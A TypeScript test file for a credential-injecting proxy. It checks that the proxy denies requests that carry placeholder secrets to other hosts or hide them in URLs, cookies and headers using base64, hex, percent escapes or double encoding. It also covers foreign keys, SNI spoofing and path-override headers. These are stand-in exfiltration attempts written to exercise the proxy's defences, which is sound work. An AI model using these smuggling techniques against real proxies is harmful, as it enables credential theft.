import { describe, expect, test } from "vitest";
import { chatgptPlaceholders } from "../../../src-main/core/credentials/codexDummies.ts";
import type { ProxyRequest } from "../../../src-main/core/proxy/exchange.ts";
import { decide } from "../../../src-main/core/proxy/pipeline.ts";
import { anthropic, basic, bearer, github } from "../../helpers/placeholders.ts";
import { acmeToml, makeRequest, policyFrom } from "../../helpers/policy.ts";

const policy = policyFrom(acmeToml);
const messages = "https://api.anthropic.com/v1/messages?beta=true";

describe("refused, so that no secret goes astray:", () => {
  test.each<[string, string, string, string, Partial<ProxyRequest>]>([
    [
      "a placeholder at another host",
      "placeholder-elsewhere",
      "GET",
      "https://evil.example/",
      { headers: bearer(anthropic) },
    ],
    [
      "a placeholder of another service",
      "placeholder-elsewhere",
      "GET",
      "https://api.github.com/",
      { headers: bearer(anthropic) },
    ],
    [
      "OpenAI's placeholder at chatgpt.com",
      "placeholder-elsewhere",
      "GET",
      "https://chatgpt.com/backend-api/codex/models",
      { headers: bearer("sk-clauderon-openai-placeholder") },
    ],
    [
      "the ChatGPT refresh dummy anywhere",
      "placeholder-elsewhere",
      "GET",
      "https://auth.openai.com/",
      { headers: bearer(chatgptPlaceholders.refreshToken) },
    ],
    [
      "a placeholder at the apex of a wildcard",
      "port",
      "GET",
      "https://acme.example:8443/",
      { headers: [["x-api-key", "clauderon-acme-placeholder"]] },
    ],
    [
      "a placeholder in the name of a host, which is looked up",
      "placeholder-elsewhere",
      "GET",
      `https://${github.toLowerCase()}.evil.example/`,
      {},
    ],
    [
      "a placeholder for the name of a header",
      "placeholder-misplaced",
      "GET",
      "https://evil.example/",
      { headers: [[`X-${github}`, "1"]] },
    ],
    [
      "a placeholder inside Basic at another host",
      "placeholder-elsewhere",
      "GET",
      "https://gitlab.example/",
      { headers: basic(`x:${github}`) },
    ],
    [
      "a placeholder in an odd header at another host",
      "placeholder-elsewhere",
      "GET",
      "https://evil.example/",
      { headers: [["X-Note", `a ${github} b`]] },
    ],
    [
      "a placeholder in an odd header at its own host",
      "placeholder-misplaced",
      "GET",
      "https://api.github.com/",
      { headers: [["X-Note", github]] },
    ],
    ["a placeholder in a URL", "placeholder-misplaced", "GET", `https://evil.example/?t=${github}`, {}],
    [
      "an encoded placeholder in a URL",
      "placeholder-misplaced",
      "GET",
      "https://evil.example/?t=ghp_%63lauderonPlaceholder",
      {},
    ],
    [
      "a placeholder in base64 at another host",
      "placeholder-elsewhere",
      "GET",
      "https://evil.example/",
      { headers: [["X-Note", Buffer.from(`x${github}y`).toString("base64")]] },
    ],
    [
      "a placeholder in hex in a cookie at another host",
      "placeholder-elsewhere",
      "GET",
      "https://evil.example/",
      { headers: [["Cookie", `a=${Buffer.from(anthropic).toString("hex")}`]] },
    ],
    [
      "a placeholder in percent escapes in a header",
      "placeholder-elsewhere",
      "GET",
      "https://evil.example/",
      { headers: [["X-Note", [...github].map((it) => `%${it.charCodeAt(0).toString(16)}`).join("")]] },
    ],
    [
      "a placeholder in base64url in a path",
      "placeholder-misplaced",
      "GET",
      `https://evil.example/${Buffer.from(`?${github}?`).toString("base64url")}`,
      {},
    ],
    [
      "a placeholder encoded twice in a URL",
      "placeholder-misplaced",
      "GET",
      `https://evil.example/?t=${encodeURIComponent(encodeURIComponent(`{"t":"${github}"}`)).replaceAll("l", "%256c")}`,
      {},
    ],
    [
      "a path that a header says again",
      "path-override",
      "POST",
      messages,
      { headers: [...bearer(anthropic), ["X-Original-URL", "/v1/files"]] },
    ],
    [
      "a placeholder over plain HTTP",
      "placeholder-plain-http",
      "GET",
      "http://api.github.com/",
      { headers: bearer(github) },
    ],
    ["a foreign Bearer", "foreign-credential", "POST", messages, { headers: bearer("sk-ant-oat01-other") }],
    ["a foreign x-api-key", "foreign-credential", "POST", messages, { headers: [["X-Api-Key", "sk-ant-api03-other"]] }],
    [
      "a foreign Basic",
      "foreign-credential",
      "GET",
      "https://github.com/a/b.git/info/refs",
      { headers: basic("me:ghp_other") },
    ],
    [
      "a foreign key over plain HTTP",
      "foreign-credential",
      "GET",
      "http://api.github.com/",
      { headers: bearer("ghp_other") },
    ],
    [
      "a foreign key in the query",
      "foreign-credential",
      "GET",
      "https://generativelanguage.googleapis.com/v1/models?key=AIzaOther",
      {},
    ],
    [
      "a credential header with underscores",
      "header-lookalike",
      "POST",
      messages,
      { headers: [["x_api_key", "other"]] },
    ],
    [
      "two Authorization headers",
      "duplicate-credential",
      "POST",
      messages,
      { headers: [...bearer(anthropic), ...bearer(anthropic)] },
    ],
    [
      "ours and a foreign Authorization",
      "duplicate-credential",
      "POST",
      messages,
      { headers: [...bearer(anthropic), ["authorization", "Bearer x"]] },
    ],
    ["a WebSocket to an injected host", "websocket", "GET", "https://api.openai.com/v1/responses", { upgrade: true }],
    ["no server name in TLS", "authority-mismatch", "POST", messages, { sni: null, headers: bearer(anthropic) }],
    [
      "another server name in TLS",
      "authority-mismatch",
      "POST",
      messages,
      { sni: "evil.example", headers: bearer(anthropic) },
    ],
    [
      "a tunnel to elsewhere with our name in TLS and Host",
      "authority-mismatch",
      "POST",
      "https://evil.example/v1/messages",
      { sni: "api.anthropic.com", headers: bearer(anthropic) },
    ],
    ["a second Host header", "authority-mismatch", "POST", messages, { headers: [["host", "evil.example"]] }],
  ])("%s", (_, rule, method, url, change) => {
    const verdict = decide(makeRequest(method, url, change), policy);
    expect(verdict).toMatchObject({ decision: "deny", rule, injections: [], headers: [] });
    expect(verdict.refusal?.status).toBe(rule === "websocket" ? 426 : 403);
    expect(verdict.refusal?.reason).not.toMatch(/Bearer|other/);
  });
});
